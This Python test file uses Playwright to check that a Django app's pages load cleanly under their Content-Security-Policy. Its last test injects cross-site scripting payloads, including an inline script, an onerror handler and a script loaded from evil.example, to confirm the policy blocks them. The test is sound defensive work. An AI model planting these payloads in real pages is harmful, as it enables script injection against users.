"""Every page works in a real browser under its Content-Security-Policy; a planted script fails."""

from collections.abc import Iterator

import pytest
from django.contrib import admin
from django.test import Client
from django.urls import reverse
from django_scopes import scopes_disabled
from playwright.sync_api import Browser, Page, expect, sync_playwright
from pytest_django.live_server_helper import LiveServer

from accounts.models import UserCliente, Usuario
from liora.tests.admin_rows import address, one_of_each
from liora.tests.phone import FLAGS
from liora.tests.test_admin_pages import ADDABLE
from tenants.models import Cliente
from whatsapp.tests.phones import make_number

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

SIGN_OF_REFUSAL = "Content Security Policy"


@pytest.fixture(scope="module")
def browser(chromium: str) -> Iterator[Browser]:
    """Open before any test and close after all: the database is read in its event loop."""
    with pytest.MonkeyPatch.context() as patch, sync_playwright() as playwright:
        # Playwright keeps that loop in this thread, which Django takes for asynchronous code.
        patch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
        browser = playwright.chromium.launch(executable_path=chromium, args=list(FLAGS))
        yield browser
        browser.close()


@pytest.fixture
def page(browser: Browser, live_server: LiveServer) -> Iterator[Page]:
    """Return an empty page; whatever its policy refuses, or breaks in a script, fails the test."""
    context = browser.new_context(base_url=live_server.url, locale="es-AR")
    page = context.new_page()
    broken: list[str] = []
    page.on("pageerror", lambda error: broken.append(str(error)))
    page.on("console", lambda told: SIGN_OF_REFUSAL in told.text and broken.append(told.text))
    yield page
    context.close()
    assert broken == []


@pytest.fixture
def operator(page: Page, admin_client: Client, live_server: LiveServer) -> Page:
    """Return the page signed in to the administration."""
    cookie = admin_client.cookies["sessionid"].value
    page.context.add_cookies([{"name": "sessionid", "value": cookie, "url": live_server.url}])
    return page


def settled(page: Page, path: str, *, status: int = 200) -> None:
    """Open a page and wait until everything it names has loaded."""
    answer = page.goto(path)
    assert answer is not None
    assert answer.status == status


def test_every_page_of_the_administration_is_whole(operator: Page):
    rows = one_of_each()
    for model in admin.site._registry:
        settled(operator, address(model, "changelist"))
        settled(operator, address(model, "change", rows[model].pk))
        if model._meta.label in ADDABLE:
            settled(operator, address(model, "add"))
    settled(operator, reverse("admin:index"))
    expect(operator.locator("#user-tools")).to_be_visible()


def test_an_operator_finds_a_cliente_by_typing(operator: Page):
    """Select2 measures and places its list by script."""
    with scopes_disabled():
        Cliente.objects.create(slug="aurora", name="Almacén Aurora")
    settled(operator, address(UserCliente, "add"))
    operator.locator(".field-cliente .select2-selection").click()
    operator.locator(".select2-search__field").last.fill("auro")
    operator.locator(".select2-results__option", has_text="Almacén Aurora").click()
    expect(operator.locator(".field-cliente .select2-selection")).to_contain_text("Aurora")


def test_an_operator_adds_a_person_in_a_window_of_its_own(operator: Page):
    """The window gives its row back through `opener`, which another policy would cut."""
    settled(operator, address(UserCliente, "add"))
    with operator.expect_popup() as opened:
        operator.locator("#add_id_usuario").click()
    window = opened.value
    window.locator("[name=email]").fill("nueva@tienda")
    for name in ("password1", "password2"):
        for box in window.locator(f"[name={name}]").all():
            box.fill("Una-clave-larga-9")
    window.locator("[name=_save]").click()
    expect(operator.locator("#id_usuario")).to_contain_text("nueva@tienda")
    assert Usuario.objects.filter(email="nueva@tienda").exists()


def test_the_description_of_the_api_draws_itself(page: Page):
    settled(page, reverse("api-docs"))
    expect(page.locator(".opblock").first).to_be_visible()
    page.locator(".opblock-summary-control").first.click()
    expect(page.locator(".opblock-body").first).to_be_visible()
    page.locator(".btn.authorize").click()
    expect(page.locator(".modal-ux")).to_be_visible()


def test_the_simulator_and_the_shop_are_whole(page: Page):
    make_number()
    settled(page, reverse("simulador:pagina"))
    expect(page.get_by_test_id("new-chat")).to_be_visible()
    settled(page, reverse("demo:shop"))
    page.locator("main a").first.click()
    expect(page.locator("main img").first).to_be_visible()
    settled(page, reverse("demo:product", args=["no-hay"]), status=404)


def test_an_error_page_is_dressed(page: Page):
    settled(page, "/no-existe", status=404)
    expect(page.get_by_role("heading")).to_have_text("No encontramos esa página")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(243, 246, 245)"


@pytest.mark.parametrize("path", ["/admin/login/", "/simulador/", "/tienda-demo/", "/no-existe"])
@pytest.mark.parametrize(
    "planted",
    [
        "<script>window.planted = 1</script>",
        "<img src=x: onerror='window.planted = 1'>",
        "<iframe srcdoc='<script>parent.planted = 1</script>'></iframe>",
        "<script src='https://evil.example/x.js'></script>",
    ],
    ids=["script", "handler", "frame", "elsewhere"],
)
def test_a_script_that_slipped_into_a_page_does_not_run(
    browser: Browser, live_server: LiveServer, path: str, planted: str
):
    page = browser.new_page()
    refused: list[str] = []
    page.on("console", lambda told: SIGN_OF_REFUSAL in told.text and refused.append(told.text))
    page.goto(f"{live_server.url}{path}")
    page.evaluate(
        "html => document.body.append(document.createRange().createContextualFragment(html))",
        planted,
    )
    page.wait_for_timeout(200)
    assert page.evaluate("window.planted") is None
    assert refused
    page.close()
